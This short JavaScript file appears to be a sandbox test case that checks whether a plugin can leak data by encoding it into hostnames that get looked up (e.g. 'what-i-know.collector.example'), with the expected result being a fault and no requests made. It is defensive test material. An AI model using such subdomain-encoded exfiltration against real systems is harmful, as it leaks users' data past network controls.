// Tries: to carry data out in names that are looked up: below the granted host, and elsewhere.
// Keeps: what is not granted is not even looked up.
// Variant: https://what-i-know.holder.example/
// Variant: https://what-i-know.collector.example/
// Variant: https://holder.example.collector.example/
// Outcome: PluginFault
// Ledger: host
// Requests: 0
// Asks: nobody
exports.sync = function (hub) {
    hub.log("broke out " + hub.http.get(hub.settings.variant).text);
};
